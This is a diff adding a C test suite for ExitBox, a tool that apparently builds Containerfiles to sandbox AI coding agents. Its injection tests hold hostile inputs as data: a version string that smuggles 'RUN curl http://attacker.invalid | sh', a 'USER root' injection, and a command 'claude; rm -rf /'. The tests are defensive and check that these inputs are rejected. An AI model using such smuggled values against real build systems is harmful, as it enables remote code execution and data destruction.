@@ -2,11 +2,452 @@
  * SPDX-FileCopyrightText: The ExitBox authors
  */
 
-#include <glib.h>
+#include <gio/gio.h>
+#include <string.h>
+
+#include "exitbox-containerfile.h"
+
+#define VERSION_LABEL "exitbox.version=\"" PACKAGE_VERSION "\""
+
+static void
+assert_contains (const char *text,
+                 const char *needle)
+{
+  if (strstr (text, needle) == NULL)
+    g_error ("Expected the Containerfile to contain «%s», but it is:\n%s", needle, text);
+}
+
+static void
+assert_not_contains (const char *text,
+                     const char *needle)
+{
+  if (strstr (text, needle) != NULL)
+    g_error ("Expected the Containerfile not to contain «%s», but it is:\n%s", needle, text);
+}
+
+/* The first instruction line, which must be the FROM line. */
+static char *
+dup_first_instruction (const char *text)
+{
+  g_auto(GStrv) lines = g_strsplit (text, "\n", -1);
+
+  for (guint i = 0; lines[i] != NULL; i++)
+    {
+      if (lines[i][0] != '#' && lines[i][0] != '\0')
+        return g_strdup (lines[i]);
+    }
+
+  return NULL;
+}
+
+/* Every @NAME@ placeholder must have been replaced. */
+static void
+assert_no_placeholder (const char *text)
+{
+  g_autoptr(GRegex) regex = g_regex_new ("@[A-Z_]+@", 0, 0, NULL);
+
+  if (g_regex_match (regex, text, 0, NULL))
+    g_error ("A placeholder was left in the Containerfile:\n%s", text);
+}
+
+static char *
+render_base (ExitboxBaseFamily  family,
+             const char        *from_image,
+             guint              uid,
+             guint              gid)
+{
+  ExitboxBaseLayerParams params = {
+    .family = family,
+    .from_image = from_image,
+    .uid = uid,
+    .gid = gid,
+  };
+  g_autoptr(GError) error = NULL;
+  char *text;
+
+  text = exitbox_containerfile_base (&params, &error);
+  g_assert_no_error (error);
+  g_assert_nonnull (text);
+
+  return text;
+}
+
+static void
+test_base_debian (void)
+{
+  g_autofree char *text = render_base (EXITBOX_BASE_FAMILY_DEBIAN, "debian:bookworm-slim", 1000, 1001);
+  g_autofree char *from = dup_first_instruction (text);
+
+  g_assert_cmpstr (from, ==, "FROM debian:bookworm-slim");
+  assert_no_placeholder (text);
+
+  assert_contains (text, "apt-get update");
+  assert_contains (text, "apt-get install -y --no-install-recommends ca-certificates curl git "
+                         "less procps jq ripgrep unzip xz-utils");
+  assert_contains (text, "rm -rf /var/lib/apt/lists/*");
+
+  assert_contains (text, "uid=1000; gid=1001;");
+  assert_contains (text, "groupadd -g \"$gid\" user");
+  assert_contains (text, "useradd -u \"$uid\" -g \"$group\" -d /home/user");
+  assert_contains (text, "userdel \"$name\"");
+  assert_contains (text, "getent group \"$gid\"");
+  assert_contains (text, "chown \"$uid:$gid\" /home/user /workspace");
+  assert_contains (text, "HOME=/home/user");
+  assert_contains (text, "LANG=C.UTF-8");
+
+  assert_contains (text, "COPY entrypoint.sh /usr/local/bin/exitbox-entrypoint");
+  assert_contains (text, "chmod 0755 /usr/local/bin/exitbox-entrypoint");
+  assert_contains (text, "ENTRYPOINT [\"/usr/local/bin/exitbox-entrypoint\"]");
+  assert_contains (text, "WORKDIR /workspace");
+
+  assert_contains (text, VERSION_LABEL);
+  assert_contains (text, "exitbox.base.image=\"debian:bookworm-slim\"");
+  assert_contains (text, "exitbox.base.family=\"debian\"");
+  assert_contains (text, "exitbox.uid=\"1000\"");
+  assert_contains (text, "exitbox.gid=\"1001\"");
+
+  assert_not_contains (text, "apk ");
+}
+
+static void
+test_base_debian_local_image (void)
+{
+  g_autofree char *text = render_base (EXITBOX_BASE_FAMILY_DEBIAN,
+                                       "localhost/exitbox-test-debian:bookworm", 1000, 1000);
+  g_autofree char *from = dup_first_instruction (text);
+
+  g_assert_cmpstr (from, ==, "FROM localhost/exitbox-test-debian:bookworm");
+  assert_contains (text, "exitbox.base.image=\"localhost/exitbox-test-debian:bookworm\"");
+}
+
+static void
+test_base_root_user (void)
+{
+  g_autofree char *text = render_base (EXITBOX_BASE_FAMILY_DEBIAN, "debian:bookworm-slim", 0, 0);
+
+  /* The uid is tested when the image builds, so the text keeps the branch
+   * that skips the account and still creates /home/user.
+   */
+  assert_contains (text, "uid=0; gid=0;");
+  assert_contains (text, "if [ \"$uid\" -ne 0 ]; then");
+  assert_contains (text, "mkdir -p /home/user /workspace");
+  assert_contains (text, "exitbox.uid=\"0\"");
+  assert_contains (text, "exitbox.gid=\"0\"");
+}
+
+static void
+test_base_alpine (void)
+{
+  g_autofree char *text = render_base (EXITBOX_BASE_FAMILY_ALPINE, "alpine:3.21", 1000, 1001);
+  g_autofree char *from = dup_first_instruction (text);
+
+  g_assert_cmpstr (from, ==, "FROM alpine:3.21");
+  assert_no_placeholder (text);
+
+  assert_contains (text, "apk add --no-cache ca-certificates curl git less procps jq ripgrep unzip xz");
+  assert_contains (text, "uid=1000; gid=1001;");
+  assert_contains (text, "addgroup -g \"$gid\" user");
+  assert_contains (text, "adduser -D -H -u \"$uid\" -G \"$group\" -h /home/user");
+  assert_contains (text, "deluser \"$name\"");
+  assert_contains (text, "chown \"$uid:$gid\" /home/user /workspace");
+  assert_contains (text, "HOME=/home/user");
+  assert_contains (text, "LANG=C.UTF-8");
+  assert_contains (text, "COPY entrypoint.sh /usr/local/bin/exitbox-entrypoint");
+  assert_contains (text, "ENTRYPOINT [\"/usr/local/bin/exitbox-entrypoint\"]");
+  assert_contains (text, "WORKDIR /workspace");
+
+  assert_contains (text, VERSION_LABEL);
+  assert_contains (text, "exitbox.base.image=\"alpine:3.21\"");
+  assert_contains (text, "exitbox.base.family=\"alpine\"");
+  assert_contains (text, "exitbox.uid=\"1000\"");
+  assert_contains (text, "exitbox.gid=\"1001\"");
+
+  assert_not_contains (text, "apt-get");
+  assert_not_contains (text, "useradd");
+}
+
+static void
+test_core_layer (void)
+{
+  ExitboxCoreLayerParams params = {
+    .family = EXITBOX_BASE_FAMILY_DEBIAN,
+    .from_image = "exitbox-base",
+    .from_image_id = "3f1c5e0a9b7d",
+    .agent_id = "claude",
+    .agent_version = "2.0.14",
+    .binary_name = "claude",
+    .command = "claude",
+  };
+  g_autoptr(GError) error = NULL;
+  g_autofree char *text = exitbox_containerfile_core (&params, &error);
+  g_autofree char *from = NULL;
+
+  g_assert_no_error (error);
+  from = dup_first_instruction (text);
+  g_assert_cmpstr (from, ==, "FROM exitbox-base");
+  assert_no_placeholder (text);
+
+  assert_contains (text, "COPY claude /usr/local/bin/claude");
+  assert_contains (text, "chown root:root /usr/local/bin/claude");
+  assert_contains (text, "chmod 0755 /usr/local/bin/claude");
+  assert_contains (text, "/usr/local/bin/claude --version");
+
+  assert_contains (text, VERSION_LABEL);
+  assert_contains (text, "exitbox.agent=\"claude\"");
+  assert_contains (text, "exitbox.agent.version=\"2.0.14\"");
+  assert_contains (text, "exitbox.parent=\"3f1c5e0a9b7d\"");
+}
+
+static void
+test_core_binary_name (void)
+{
+  ExitboxCoreLayerParams params = {
+    .family = EXITBOX_BASE_FAMILY_ALPINE,
+    .from_image = "exitbox-base",
+    .from_image_id = "abc",
+    .agent_id = "codex",
+    .agent_version = "0.5.0",
+    .binary_name = "codex-x86_64-unknown-linux-musl",
+    .command = "codex",
+  };
+  g_autoptr(GError) error = NULL;
+  g_autofree char *text = exitbox_containerfile_core (&params, &error);
+
+  g_assert_no_error (error);
+  assert_contains (text, "COPY codex-x86_64-unknown-linux-musl /usr/local/bin/codex");
+  assert_contains (text, "/usr/local/bin/codex --version");
+  assert_contains (text, "exitbox.agent=\"codex\"");
+}
+
+static void
+test_project_layer (void)
+{
+  ExitboxProjectLayerParams params = {
+    .from_image = "exitbox-claude-core",
+    .from_image_id = "77aa00",
+    .project_key = "home_user_src_app_1a2b3c4d",
+    .profiles_hash = "e3b0c44298fc1c14",
+  };
+  g_autoptr(GError) error = NULL;
+  g_autofree char *text = exitbox_containerfile_project (&params, &error);
+  g_autofree char *from = NULL;
+
+  g_assert_no_error (error);
+  from = dup_first_instruction (text);
+  g_assert_cmpstr (from, ==, "FROM exitbox-claude-core");
+  assert_no_placeholder (text);
+
+  assert_contains (text, VERSION_LABEL);
+  assert_contains (text, "exitbox.project=\"home_user_src_app_1a2b3c4d\"");
+  assert_contains (text, "exitbox.parent=\"77aa00\"");
+  assert_contains (text, "exitbox.profiles.hash=\"e3b0c44298fc1c14\"");
+}
+
+static void
+test_proxy_debian (void)
+{
+  g_autoptr(GError) error = NULL;
+  g_autofree char *text = exitbox_containerfile_proxy (EXITBOX_BASE_FAMILY_DEBIAN,
+                                                       "debian:bookworm-slim", &error);
+  g_autofree char *from = NULL;
+
+  g_assert_no_error (error);
+  from = dup_first_instruction (text);
+  g_assert_cmpstr (from, ==, "FROM debian:bookworm-slim");
+  assert_no_placeholder (text);
+
+  assert_contains (text, "apt-get install -y --no-install-recommends squid");
+  assert_contains (text, "mkdir -p /etc/exitbox-proxy /var/log/squid");
+  assert_contains (text, "chown proxy:proxy /etc/exitbox-proxy /var/log/squid");
+  assert_contains (text, "CMD [\"squid\", \"-N\", \"-f\", \"/etc/exitbox-proxy/squid.conf\"]");
+  assert_contains (text, VERSION_LABEL);
+  assert_contains (text, "exitbox.base.image=\"debian:bookworm-slim\"");
+  assert_not_contains (text, "apk ");
+}
+
+static void
+test_proxy_alpine (void)
+{
+  g_autoptr(GError) error = NULL;
+  g_autofree char *text = exitbox_containerfile_proxy (EXITBOX_BASE_FAMILY_ALPINE,
+                                                       "alpine:3.21", &error);
+  g_autofree char *from = NULL;
+
+  g_assert_no_error (error);
+  from = dup_first_instruction (text);
+  g_assert_cmpstr (from, ==, "FROM alpine:3.21");
+  assert_no_placeholder (text);
+
+  assert_contains (text, "apk add --no-cache squid");
+  assert_contains (text, "chown squid:squid /etc/exitbox-proxy /var/log/squid");
+  assert_contains (text, "CMD [\"squid\", \"-N\", \"-f\", \"/etc/exitbox-proxy/squid.conf\"]");
+  assert_contains (text, VERSION_LABEL);
+  assert_contains (text, "exitbox.base.image=\"alpine:3.21\"");
+  assert_not_contains (text, "apt-get");
+}
+
+static void
+test_label_escaped (void)
+{
+  ExitboxCoreLayerParams params = {
+    .family = EXITBOX_BASE_FAMILY_DEBIAN,
+    .from_image = "exitbox-base",
+    .from_image_id = "abc",
+    .agent_id = "claude",
+    .agent_version = "1\" evil=\"$HOME\\",
+    .binary_name = "claude",
+    .command = "claude",
+  };
+  g_autoptr(GError) error = NULL;
+  g_autofree char *text = exitbox_containerfile_core (&params, &error);
+
+  g_assert_no_error (error);
+  assert_contains (text, "exitbox.agent.version=\"1\\\" evil=\\\"\\$HOME\\\\\"");
+  assert_not_contains (text, "evil=\"$HOME");
+}
+
+static void
+test_label_newline_rejected (void)
+{
+  ExitboxCoreLayerParams core = {
+    .family = EXITBOX_BASE_FAMILY_DEBIAN,
+    .from_image = "exitbox-base",
+    .from_image_id = "abc",
+    .agent_id = "claude",
+    .agent_version = "1.0\nRUN curl http://attacker.invalid | sh",
+    .binary_name = "claude",
+    .command = "claude",
+  };
+  ExitboxProjectLayerParams project = {
+    .from_image = "exitbox-claude-core",
+    .from_image_id = "abc",
+    .project_key = "key\r\nUSER root",
+    .profiles_hash = "e3b0c44298fc1c14",
+  };
+  g_autoptr(GError) core_error = NULL;
+  g_autoptr(GError) project_error = NULL;
+  g_autofree char *core_text = NULL;
+  g_autofree char *project_text = NULL;
+
+  core_text = exitbox_containerfile_core (&core, &core_error);
+  g_assert_null (core_text);
+  g_assert_error (core_error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
+  g_assert_nonnull (strstr (core_error->message, "exitbox.agent.version"));
+
+  project_text = exitbox_containerfile_project (&project, &project_error);
+  g_assert_null (project_text);
+  g_assert_error (project_error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
+  g_assert_nonnull (strstr (project_error->message, "exitbox.project"));
+}
+
+static void
+test_from_image_rejected (void)
+{
+  const char *images[] = {
+    "debian:bookworm-slim\nRUN id",
+    "debian:bookworm-slim\n",
+    "debian bookworm",
+    "\"debian\"",
+    "",
+    NULL,
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (images); i++)
+    {
+      ExitboxBaseLayerParams params = {
+        .family = EXITBOX_BASE_FAMILY_DEBIAN,
+        .from_image = images[i],
+        .uid = 1000,
+        .gid = 1000,
+      };
+      g_autoptr(GError) base_error = NULL;
+      g_autoptr(GError) proxy_error = NULL;
+      g_autofree char *base_text = NULL;
+      g_autofree char *proxy_text = NULL;
+
+      g_test_message ("image %u: %s", i, images[i] != NULL ? images[i] : "(null)");
+
+      base_text = exitbox_containerfile_base (&params, &base_error);
+      g_assert_null (base_text);
+      g_assert_error (base_error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
+
+      proxy_text = exitbox_containerfile_proxy (EXITBOX_BASE_FAMILY_DEBIAN, images[i], &proxy_error);
+      g_assert_null (proxy_text);
+      g_assert_error (proxy_error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
+    }
+}
+
+static void
+test_command_rejected (void)
+{
+  const char *commands[] = {
+    "claude; rm -rf /",
+    "../claude",
+    "-rf",
+    "clau*",
+    NULL,
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (commands); i++)
+    {
+      ExitboxCoreLayerParams params = {
+        .family = EXITBOX_BASE_FAMILY_DEBIAN,
+        .from_image = "exitbox-base",
+        .from_image_id = "abc",
+        .agent_id = "claude",
+        .agent_version = "1.0.0",
+        .binary_name = "claude",
+        .command = commands[i],
+      };
+      g_autoptr(GError) error = NULL;
+      g_autofree char *text = NULL;
+
+      g_test_message ("command %u: %s", i, commands[i] != NULL ? commands[i] : "(null)");
+      text = exitbox_containerfile_core (&params, &error);
+      g_assert_null (text);
+      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
+    }
+}
+
+static void
+test_entrypoint_resource (void)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GBytes) bytes = exitbox_containerfile_get_entrypoint (&error);
+  g_autofree char *source_path = g_test_build_filename (G_TEST_DIST, "..", "data", "core",
+                                                        "entrypoint.sh", NULL);
+  g_autofree char *source = NULL;
+  gsize source_length;
+
+  g_assert_no_error (error);
+  g_assert_nonnull (bytes);
+
+  g_file_get_contents (source_path, &source, &source_length, &error);
+  g_assert_no_error (error);
+  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes),
+                   source, source_length);
+}
 
 int
-main (int argc, char *argv[])
+main (int   argc,
+      char *argv[])
 {
   g_test_init (&argc, &argv, NULL);
+
+  g_test_add_func ("/containerfile/base/debian", test_base_debian);
+  g_test_add_func ("/containerfile/base/debian-local-image", test_base_debian_local_image);
+  g_test_add_func ("/containerfile/base/root-user", test_base_root_user);
+  g_test_add_func ("/containerfile/base/alpine", test_base_alpine);
+  g_test_add_func ("/containerfile/core/layer", test_core_layer);
+  g_test_add_func ("/containerfile/core/binary-name", test_core_binary_name);
+  g_test_add_func ("/containerfile/project/layer", test_project_layer);
+  g_test_add_func ("/containerfile/proxy/debian", test_proxy_debian);
+  g_test_add_func ("/containerfile/proxy/alpine", test_proxy_alpine);
+  g_test_add_func ("/containerfile/label/escaped", test_label_escaped);
+  g_test_add_func ("/containerfile/label/newline-rejected", test_label_newline_rejected);
+  g_test_add_func ("/containerfile/from-image/rejected", test_from_image_rejected);
+  g_test_add_func ("/containerfile/command/rejected", test_command_rejected);
+  g_test_add_func ("/containerfile/entrypoint/resource", test_entrypoint_resource);
+
   return g_test_run ();
 }
